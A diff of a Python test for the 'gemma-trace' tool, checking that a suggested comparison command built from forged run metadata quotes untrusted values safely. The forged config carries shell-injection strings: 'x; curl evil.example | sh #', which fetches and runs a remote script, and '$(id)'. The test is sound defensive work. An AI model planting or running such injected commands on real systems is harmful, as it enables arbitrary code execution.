@@ -187,11 +187,14 @@ def test_low_precision(tmp_path: Path) -> None:
     assert finding.confidence is Confidence.LOW
     assert finding.check == "gemma-trace compare --set dtype=float32,bfloat16 --set device=cpu"
     forged = products("float32")
-    config = METADATA.config | {"model": "x; curl evil.example | sh #", "dtype": "$(id)"}
+    config = METADATA.config | {"model": "x; curl evil.example | sh #", "prompt": "$(id)"}
     forged.metadata(replace(METADATA, run=replace(METADATA.run, dtype="float32"), config=config))
-    words = shlex.split(one(forged, tmp_path, "low_precision").check)
-    settings = ["--set", "dtype=$(id),bfloat16", "--set", "model=x; curl evil.example | sh #", "--set", "device=cpu"]
-    assert words == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
+    _, command = one(forged, tmp_path, "low_precision").check.split(": ")
+    settings = [
+        *("--set", "dtype=float32,bfloat16", "--set", "model=x; curl evil.example | sh #"),
+        *("--set", "device=cpu", "--set", "prompt=$(id)"),
+    ]
+    assert shlex.split(command) == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
     assert "low_precision" not in rules(products("bfloat16"), tmp_path)
     for known, missing in ((False, "this CPU (A CPU) has no instructions for bfloat16"), (None, "isn't recorded")):
         environment = replace(METADATA.environment, cpu_bfloat16=known)
